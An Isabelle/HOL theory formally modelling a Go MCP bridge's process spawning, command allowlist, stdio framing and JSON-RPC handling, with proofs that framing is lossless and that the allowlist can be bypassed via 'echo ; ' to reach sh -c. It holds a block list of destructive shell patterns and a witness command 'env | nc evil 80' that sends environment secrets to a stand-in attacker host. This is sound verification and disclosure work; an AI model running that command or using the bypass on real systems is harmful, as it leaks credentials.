(* ===== verification/Process.thy ===== *)
theory Process
  imports Prelude
begin

text \<open>
  Backend processes and their wire formats (src/poolmgr/process.go): which commands may be started and how, the two
  framings of the stdio transport, the built-in server, and the process handle. Starting a program is the business
  of the operating system; what the source decides is the argument vector. \<open>encoding/json\<close> is the record
  \<open>json_lib\<close>, \<open>fmt.Sprintf(\"%v\")\<close> of a decoded value the parameter \<open>show\<close>.
\<close>

record json_lib =
  jl_Unmarshal :: "string \<Rightarrow> goerr + json"
  jl_Marshal :: "json \<Rightarrow> string"

section \<open>The process handle\<close>

text \<open>\<open>mp_ProcessState\<close> is the field of \<open>exec.Cmd\<close> that \<open>Wait\<close> sets: whether the process exited. Nothing in
  the pools calls \<open>Wait\<close>. \<open>mp_Process\<close> is the process identifier once started.\<close>

record ManagedProcess =
  mp_Process :: "int option"
  mp_ProcessState :: "bool option"
  mp_isWarm :: bool
  mp_UserID :: string
  mp_StderrBuf :: string
  mp_secretInjector :: bool

definition IsAlive :: "ManagedProcess \<Rightarrow> bool" where
  "IsAlive m = (if mp_Process m = None then False else if mp_ProcessState m = Some True then False else True)"

text \<open>Signals sent to operating system processes, in order.\<close>

definition Kill :: "ManagedProcess \<Rightarrow> int list \<Rightarrow> int list" where
  "Kill m killed = (case mp_Process m of None \<Rightarrow> killed | Some pid \<Rightarrow> killed @ [pid])"

definition GetMemoryUsage :: "(int \<Rightarrow> goerr + int) \<Rightarrow> ManagedProcess \<Rightarrow> goerr + int" where
  "GetMemoryUsage rss m =
     (case mp_Process m of None \<Rightarrow> Inl (ErrNew ''process not started'') | Some pid \<Rightarrow> rss pid)"

definition getSecretKeys :: "(string, string) gomap \<Rightarrow> string list" where
  "getSecretKeys secrets = map fst secrets"

section \<open>Commands\<close>

definition isSimpleCommand :: "string \<Rightarrow> bool" where
  "isSimpleCommand command \<longleftrightarrow> command = ''cat'' \<or> command = ''npx'' \<or> command = ''yes'' \<or> command = ''false'' \<or>
     command = ''sh -c '' @ [CHR 0x27] @ ''echo invalid'' @ [CHR 0x27] \<or> HasPrefix command ''github-mcp-server''"

definition dangerous :: "string list" where
  "dangerous = [''rm -'', ''rmdir'', ''del '', ''format'', ''mkfs'', ''dd if='', ''>/dev/'', ''&& rm'', ''|| rm'', ''; rm'',
     ''| rm'', [CHR 0x60], ''$('', [CHR 0x5C] @ ''x'']"

definition allowed_simple :: "string list" where
  "allowed_simple = [''cat'', ''npx'', ''yes'', ''false'', ''echo'', ''sleep'', ''env'']"

definition allowedPrefixes :: "string list" where
  "allowedPrefixes = [''npx '', ''npm '', ''node '', ''github-mcp-server'', ''github-mcp-server '', ''uvx '', ''bunx '',
     ''sleep '', ''echo '', ''env '', ''go run '']"

definition path_of_command :: "string \<Rightarrow> string" where
  "path_of_command command =
     (case Index command '' '' of Some i \<Rightarrow> if i > 0 then take i command else command | None \<Rightarrow> command)"

text \<open>\<open>None\<close> is the nil error: the command may run.\<close>

definition isAllowedCommand :: "string \<Rightarrow> goerr option" where
  "isAllowedCommand command =
     (case find (Contains command) dangerous of
        Some d \<Rightarrow> Some (ErrNew (''command contains dangerous pattern: '' @ d))
      | None \<Rightarrow>
          if List.member allowed_simple command then None
          else if list_ex (HasPrefix command) allowedPrefixes then None
          else if HasPrefix command ''/'' \<and> \<not> ContainsAny (path_of_command command) ('';|&'' @ [CHR 0x60] @ ''$()<>'') then None
          else if HasPrefix command (''sh -c '' @ [CHR 0x27]) \<or> HasPrefix command (''sh -c '' @ [CHR 0x22]) then None
          else Some (ErrNew (''command not in allowlist: '' @ command)))"

definition words_of_command :: "string \<Rightarrow> string list" where
  "words_of_command command = (if Contains command '' '' then Fields command else [command])"

text \<open>The argument vector \<open>spawnProcessRaw\<close> hands to the operating system.\<close>

definition command_argv :: "string \<Rightarrow> string list" where
  "command_argv command =
     (if (isSimpleCommand command \<or> HasPrefix command ''npx '') \<and>
         \<not> Contains command '';'' \<and> \<not> Contains command ''&&'' \<and> \<not> Contains command ''||''
      then words_of_command command
      else if HasPrefix command ''/'' then words_of_command command
      else [''sh'', ''-c'', command])"

text \<open>What is started: the built-in server, or an argument vector with an environment (\<open>None\<close> inherits the
  environment of the bridge). \<open>start\<close> is the outcome of pipes and \<open>Start\<close>: a process identifier or an error.\<close>

definition spawnProcessRaw ::
    "(string list \<Rightarrow> string list option \<Rightarrow> goerr + int) \<Rightarrow> string \<Rightarrow> string list option \<Rightarrow> goerr + ManagedProcess" where
  "spawnProcessRaw start command env =
     (if command = ''mcp-bridge-builtin''
      then Inr \<lparr>mp_Process = Some 0, mp_ProcessState = None, mp_isWarm = True, mp_UserID = [], mp_StderrBuf = [],
                mp_secretInjector = False\<rparr>
      else case isAllowedCommand command of
             Some err \<Rightarrow> Inl (ErrWrap ''command not allowed'' err)
           | None \<Rightarrow>
               (case start (command_argv command) env of
                  Inl err \<Rightarrow> Inl err
                | Inr pid \<Rightarrow> Inr \<lparr>mp_Process = Some pid, mp_ProcessState = None, mp_isWarm = True, mp_UserID = [],
                    mp_StderrBuf = [], mp_secretInjector = False\<rparr>))"

section \<open>Framing\<close>

definition crlf :: string where
  "crlf = [CHR 0x0D, CHR 0x0A]"

definition formatMCPPacket :: "string \<Rightarrow> string" where
  "formatMCPPacket body = ''Content-Length: '' @ itoa (int (length body)) @ crlf @ crlf @ body"

text \<open>\<open>ReadString('\n')\<close>: the text up to and including the first newline and what follows; \<open>None\<close> when the stream
  ends before one, which ends the capture loops.\<close>

fun read_line :: "string \<Rightarrow> (string \<times> string) option" where
  "read_line [] = None"
| "read_line (c # cs) =
     (if c = CHR 0x0A then Some ([c], cs) else map_option (\<lambda>(l, r). (c # l, r)) (read_line cs))"

lemma read_line_length: "read_line s = Some (l, r) \<Longrightarrow> length r < length s"
  by (induction s arbitrary: l r) (fastforce split: if_splits)+

text \<open>The messages \<open>captureStdout\<close> passes on, from the whole output of a process.\<close>

function captureStdout :: "string \<Rightarrow> string list" where
  "captureStdout s =
     (case read_line s of
        None \<Rightarrow> []
      | Some (line, rest) \<Rightarrow>
          (let data = TrimRight line crlf
           in if data = [] then captureStdout rest else data # captureStdout rest))"
  by auto
termination by (relation "measure length") (auto simp: read_line_length)

text \<open>The inner loop that drops the blank line after the header.\<close>

definition skip_blank :: "string \<Rightarrow> string" where
  "skip_blank s = (case read_line s of None \<Rightarrow> [] | Some (_, rest) \<Rightarrow> rest)"

lemma skip_blank_length: "length (skip_blank s) \<le> length s"
  using read_line_length by (fastforce simp: skip_blank_def split: option.splits)

function captureStdoutContentLength :: "string \<Rightarrow> string list" where
  "captureStdoutContentLength s =
     (case read_line s of
        None \<Rightarrow> []
      | Some (line, rest) \<Rightarrow>
          (let line = TrimRight line crlf
           in if \<not> HasPrefix line ''Content-Length: '' then captureStdoutContentLength rest
              else case Atoi (TrimSpace (TrimPrefix line ''Content-Length: '')) of
                     None \<Rightarrow> captureStdoutContentLength rest
                   | Some contentLen \<Rightarrow>
                       if contentLen \<le> 0 then captureStdoutContentLength rest
                       else let rest = skip_blank rest
                            in if int (length rest) < contentLen then []
                               else take (nat contentLen) rest # captureStdoutContentLength (drop (nat contentLen) rest)))"
  by auto
termination
proof (relation "measure length")
qed (auto dest!: read_line_length simp: less_le_trans [OF _ skip_blank_length] le_less_trans [OF le_trans [OF diff_le_self skip_blank_length]])

declare captureStdout.simps [simp del] captureStdoutContentLength.simps [simp del]

lemma read_line_append [simp]:
  "CHR 0x0A \<notin> set l \<Longrightarrow> read_line (l @ CHR 0x0A # r) = Some (l @ [CHR 0x0A], r)"
  by (induction l) auto

lemma itoa_nat: "itoa (int n) = digits_of n"
  by (simp add: itoa_def)

lemma no_newline_digits: "CHR 0x0A \<notin> set (digits_of n)" "CHR 0x0D \<notin> set (digits_of n)"
  using digits_of_digits [of n] by (auto simp: list_all_iff is_digit_def)

lemma last_digits: "last (digits_of n) \<notin> set crlf"
proof -
  have "last (digits_of n) \<in> set (digits_of n)" using digits_of_digits by (simp add: last_in_set)
  then show ?thesis using no_newline_digits [of n] by (auto simp: crlf_def)
qed

lemma header_line: "TrimRight (''Content-Length: '' @ digits_of n @ crlf) crlf = ''Content-Length: '' @ digits_of n"
proof -
  have "TrimRight ((''Content-Length: '' @ digits_of n) @ crlf) crlf = TrimRight (''Content-Length: '' @ digits_of n) crlf"
    by (rule TrimRight_append) simp
  also have "\<dots> = ''Content-Length: '' @ digits_of n"
    using last_digits [of n] digits_of_digits [of n] by (intro TrimRight_id) simp
  finally show ?thesis by simp
qed

lemma read_header:
  "read_line (formatMCPPacket body @ s) =
     Some (''Content-Length: '' @ digits_of (length body) @ crlf, crlf @ body @ s)"
proof -
  have eq: "formatMCPPacket body @ s =
      (''Content-Length: '' @ digits_of (length body) @ [CHR 0x0D]) @ CHR 0x0A # (crlf @ body @ s)"
    by (simp add: formatMCPPacket_def itoa_nat crlf_def)
  show ?thesis unfolding eq by (subst read_line_append) (auto simp: no_newline_digits crlf_def)
qed

text \<open>One packet of the sender is one message of the reader.\<close>

lemma capture_packet:
  assumes "body \<noteq> []" and "int (length body) < 2 ^ 63"
  shows "captureStdoutContentLength (formatMCPPacket body @ s) = body # captureStdoutContentLength s"
proof -
  have blank: "skip_blank (crlf @ body @ s) = body @ s" by (simp add: skip_blank_def crlf_def)
  have len: "Atoi (digits_of (length body)) = Some (int (length body))" using assms(2) by (rule Atoi_digits_of)
  show ?thesis
    using assms(1)
    by (subst captureStdoutContentLength.simps)
      (simp only: read_header header_line HasPrefix_append TrimPrefix_append TrimSpace_digits_of len blank Let_def
        option.case prod.case, simp)
qed

text \<open>Content-Length framing loses nothing: whatever non-empty bodies one side writes as packets, the reader
  of that framing passes on, the same bodies in the same order, newlines in them included.\<close>

theorem content_length_framing:
  assumes "\<And>b. b \<in> set bodies \<Longrightarrow> b \<noteq> [] \<and> int (length b) < 2 ^ 63"
  shows "captureStdoutContentLength (concat (map formatMCPPacket bodies)) = bodies"
  using assms
proof (induction bodies)
  case Nil
  show ?case by (subst captureStdoutContentLength.simps) simp
next
  case (Cons b bs)
  then show ?case by (simp add: capture_packet)
qed

theorem content_length_framing_witness:
  "captureStdoutContentLength (concat (map formatMCPPacket [[CHR 0x0A], ''{}''])) = [[CHR 0x0A], ''{}'']"
  by (rule content_length_framing) auto

text \<open>With a further header, which the transport's specification allows, the reader takes that header for the
  blank line and the blank line for the start of the body.\<close>

lemma second_header_misread:
  "captureStdoutContentLength (''Content-Length: 2'' @ crlf @ ''Content-Type: a'' @ crlf @ crlf @ ''{}'') = [crlf]"
proof -
  have "captureStdoutContentLength ''{}'' = []"
    by (subst captureStdoutContentLength.simps) simp
  moreover have "Atoi ''2'' = Some 2" by (simp add: Atoi_def is_digit_def digits_val_def int64_def)
  moreover have "TrimSpace ''2'' = ''2''" by (simp add: TrimSpace_def is_space_def)
  ultimately show ?thesis
    by (subst captureStdoutContentLength.simps)
      (simp add: crlf_def TrimRight_def TrimPrefix_def skip_blank_def)
qed

text \<open>Newline framing, the default: what the bridge writes to a process and reads back is the message plus a
  newline, so a message is passed on unchanged when it has no newline and does not end in a carriage return.\<close>

definition line_message :: "string \<Rightarrow> bool" where
  "line_message b \<longleftrightarrow> b \<noteq> [] \<and> CHR 0x0A \<notin> set b \<and> last b \<noteq> CHR 0x0D"

lemma newline_framing:
  assumes "\<And>b. b \<in> set bodies \<Longrightarrow> line_message b"
  shows "captureStdout (concat (map (\<lambda>b. b @ [CHR 0x0A]) bodies)) = bodies"
  using assms
proof (induction bodies)
  case Nil
  show ?case by (subst captureStdout.simps) simp
next
  case (Cons b bs)
  then have b: "b \<noteq> []" "CHR 0x0A \<notin> set b" "last b \<noteq> CHR 0x0D" by (auto simp: line_message_def)
  then have lb: "last b \<noteq> CHR 0x0A" using last_in_set by metis
  have "TrimRight (b @ [CHR 0x0A]) crlf = TrimRight b crlf" by (rule TrimRight_append) (simp add: crlf_def)
  also have "\<dots> = b" using b lb by (intro TrimRight_id) (simp add: crlf_def)
  finally have t: "TrimRight (b @ [CHR 0x0A]) crlf = b" .
  show ?case
    using Cons b by (subst captureStdout.simps) (simp add: t)
qed

section \<open>What may run\<close>

lemma find_none_iff: "find P xs = None \<longleftrightarrow> (\<forall>x \<in> set xs. \<not> P x)"
  by (auto simp: find_None_iff)

lemma allowed_has_no_dangerous_pattern:
  "isAllowedCommand c = None \<Longrightarrow> d \<in> set dangerous \<Longrightarrow> \<not> Contains c d"
  by (auto simp: isAllowedCommand_def find_None_iff split: option.splits)

text \<open>The allowlist of commands does not confine the shell: any text without one of the listed patterns,
  appended to the allowed word echo with a semicolon, passes the check and is given to \<open>sh -c\<close> as it is, with
  the environment and hence the credentials of the backend.\<close>

theorem allowlist_admits_shell:
  assumes "\<And>d. d \<in> set dangerous \<Longrightarrow> \<not> Contains (''echo ; '' @ script) d"
  shows "spawnProcessRaw start (''echo ; '' @ script) env =
    (case start [''sh'', ''-c'', ''echo ; '' @ script] env of
       Inl err \<Rightarrow> Inl err
     | Inr pid \<Rightarrow> Inr \<lparr>mp_Process = Some pid, mp_ProcessState = None, mp_isWarm = True, mp_UserID = [],
         mp_StderrBuf = [], mp_secretInjector = False\<rparr>)"
proof -
  have "find (Contains (''echo ; '' @ script)) dangerous = None" using assms by (simp add: find_none_iff)
  then have "isAllowedCommand (''echo ; '' @ script) = None"
    by (simp add: isAllowedCommand_def allowedPrefixes_def)
  moreover have "command_argv (''echo ; '' @ script) = [''sh'', ''-c'', ''echo ; '' @ script]"
    by (simp add: command_argv_def isSimpleCommand_def)
  ultimately show ?thesis by (simp add: spawnProcessRaw_def)
qed

theorem allowlist_admits_shell_witness:
  "spawnProcessRaw (\<lambda>argv env. Inr (int (length argv))) (''echo ; '' @ ''env | nc evil 80'') None =
     Inr \<lparr>mp_Process = Some 3, mp_ProcessState = None, mp_isWarm = True, mp_UserID = [], mp_StderrBuf = [],
       mp_secretInjector = False\<rparr>"
proof -
  have "\<not> Contains (''echo ; '' @ ''env | nc evil 80'') d" if "d \<in> set dangerous" for d
    using that by (auto simp: dangerous_def Contains_def)
  from allowlist_admits_shell [OF this, of "\<lambda>argv env. Inr (int (length argv))" None]
  show ?thesis by simp
qed

section \<open>Decoding into structs\<close>

text \<open>\<open>json.Unmarshal\<close> into a struct takes an object (or null, which changes nothing) and assigns its members in
  order to the field with that name, letter case aside. A null leaves a string field as it is; a value of another
  type is an error (\<open>None\<close>).\<close>

fun top_fields :: "json \<Rightarrow> (string \<times> json) list option" where
  "top_fields (JObj kvs) = Some kvs"
| "top_fields JNull = Some []"
| "top_fields _ = None"

definition members :: "string \<Rightarrow> (string \<times> json) list \<Rightarrow> json list" where
  "members key kvs = map snd (filter (\<lambda>(k, _). ToLower k = ToLower key) kvs)"

fun set_string :: "json \<Rightarrow> string option \<Rightarrow> string option" where
  "set_string (JStr s) acc = map_option (\<lambda>_. s) acc"
| "set_string JNull acc = acc"
| "set_string _ acc = None"

fun set_object :: "json \<Rightarrow> (string \<times> json) list option \<Rightarrow> (string \<times> json) list option" where
  "set_object (JObj kvs) acc = map_option (\<lambda>a. a @ kvs) acc"
| "set_object JNull acc = acc"
| "set_object _ acc = None"

fun set_array :: "json \<Rightarrow> json list option \<Rightarrow> json list option" where
  "set_array (JArr vs) acc = map_option (\<lambda>_. vs) acc"
| "set_array JNull acc = map_option (\<lambda>_. []) acc"
| "set_array _ acc = None"

definition string_field :: "string \<Rightarrow> (string \<times> json) list \<Rightarrow> string option" where
  "string_field key kvs = fold set_string (members key kvs) (Some [])"

definition object_field :: "string \<Rightarrow> (string \<times> json) list \<Rightarrow> (string \<times> json) list option" where
  "object_field key kvs = fold set_object (members key kvs) (Some [])"

definition array_field :: "string \<Rightarrow> (string \<times> json) list \<Rightarrow> json list option" where
  "array_field key kvs = fold set_array (members key kvs) (Some [])"

definition any_field :: "string \<Rightarrow> (string \<times> json) list \<Rightarrow> json" where
  "any_field key kvs = fold (\<lambda>v _. v) (members key kvs) JNull"

section \<open>JSON-RPC and the built-in server\<close>

record JSONRPCMessage =
  rm_JSONRPC :: string
  rm_Method :: string
  rm_Params :: json
  rm_ID :: json

definition decode_message :: "json \<Rightarrow> JSONRPCMessage option" where
  "decode_message v =
     (case top_fields v of
        None \<Rightarrow> None
      | Some kvs \<Rightarrow>
          (case (string_field ''jsonrpc'' kvs, string_field ''method'' kvs) of
             (Some j, Some m) \<Rightarrow> Some \<lparr>rm_JSONRPC = j, rm_Method = m, rm_Params = any_field ''params'' kvs,
                 rm_ID = any_field ''id'' kvs\<rparr>
           | _ \<Rightarrow> None))"

text \<open>\<open>omitempty\<close> leaves nil parameters and a nil identifier out.\<close>

definition encode_message :: "JSONRPCMessage \<Rightarrow> json" where
  "encode_message m = JObj ([(''jsonrpc'', JStr (rm_JSONRPC m)), (''method'', JStr (rm_Method m))] @
     (if rm_Params m = JNull then [] else [(''params'', rm_Params m)]) @
     (if rm_ID m = JNull then [] else [(''id'', rm_ID m)]))"

record JSONRPCError =
  re_Code :: int
  re_Message :: string

record JSONRPCResponse =
  rr_JSONRPC :: string
  rr_ID :: json
  rr_Result :: json
  rr_Error :: "JSONRPCError option"

fun decode_error :: "json \<Rightarrow> JSONRPCError option option" where
  "decode_error JNull = Some None"
| "decode_error (JObj kvs) =
     (case (any_field ''code'' kvs, string_field ''message'' kvs) of
        (JNum q, Some msg) \<Rightarrow>
          if of_int \<lfloor>q\<rfloor> = q \<and> int64 \<lfloor>q\<rfloor> then Some (Some \<lparr>re_Code = \<lfloor>q\<rfloor>, re_Message = msg\<rparr>) else None
      | (JNull, Some msg) \<Rightarrow> Some (Some \<lparr>re_Code = 0, re_Message = msg\<rparr>)
      | _ \<Rightarrow> None)"
| "decode_error _ = None"

definition decode_response :: "json \<Rightarrow> JSONRPCResponse option" where
  "decode_response v =
     (case top_fields v of
        None \<Rightarrow> None
      | Some kvs \<Rightarrow>
          (case (string_field ''jsonrpc'' kvs, decode_error (any_field ''error'' kvs)) of
             (Some j, Some e) \<Rightarrow> Some \<lparr>rr_JSONRPC = j, rr_ID = any_field ''id'' kvs,
                 rr_Result = any_field ''result'' kvs, rr_Error = e\<rparr>
           | _ \<Rightarrow> None))"

definition rpc_result :: "json \<Rightarrow> json \<Rightarrow> json" where
  "rpc_result i r = JObj [(''jsonrpc'', JStr ''2.0''), (''id'', i), (''result'', r)]"

definition builtin_tools :: "json list" where
  "builtin_tools =
     [JObj [(''name'', JStr ''mcpbridge_echo''),
        (''description'', JStr ''Echo tool - returns the input arguments. Used as fallback when other backends are unavailable.''),
        (''inputSchema'', JObj [(''type'', JStr ''object''),
           (''properties'', JObj [(''message'', JObj [(''type'', JStr ''string''),
              (''description'', JStr ''Message to echo back'')])])])],
      JObj [(''name'', JStr ''mcpbridge_status''), (''description'', JStr ''Returns system status information''),
        (''inputSchema'', JObj [(''type'', JStr ''object''), (''properties'', JObj [])])]]"

text \<open>One line of input to the built-in server: its response line, if any.\<close>

definition builtin_reply :: "json_lib \<Rightarrow> (json \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> string option" where
  "builtin_reply jl show_v line =
     (case jl_Unmarshal jl line of
        Inl _ \<Rightarrow> None
      | Inr v \<Rightarrow>
          (case decode_message v of
             None \<Rightarrow> None
           | Some msg \<Rightarrow>
               (let reply = (\<lambda>r. Some (jl_Marshal jl (rpc_result (rm_ID msg) r) @ [CHR 0x0A]))
                in if rm_Method msg = ''initialize''
                   then reply (JObj [(''protocolVersion'', JStr ''2024-11-05''), (''capabilities'', JObj []),
                     (''serverInfo'', JObj [(''name'', JStr ''mcp-bridge-builtin''), (''version'', JStr ''1.0.0'')]),
                     (''instructions'', JStr ''Built-in MCP Bridge server - used as fallback when other backends are unavailable'')])
                   else if rm_Method msg = ''tools/list'' then reply (JObj [(''tools'', JArr builtin_tools)])
                   else if rm_Method msg = ''tools/call''
                   then (case rm_Params msg of
                           JObj p \<Rightarrow> reply (JObj [(''content'', JArr [JObj [(''type'', JStr ''text''),
                             (''text'', JStr (''Echo response: '' @ show_v (JObj p)))]])])
                         | _ \<Rightarrow> None)
                   else None)))"

lemma decode_encode_message: "decode_message (encode_message m) = Some m"
  by (auto simp: decode_message_def encode_message_def string_field_def any_field_def members_def ToLower_def lower_char_def)

end
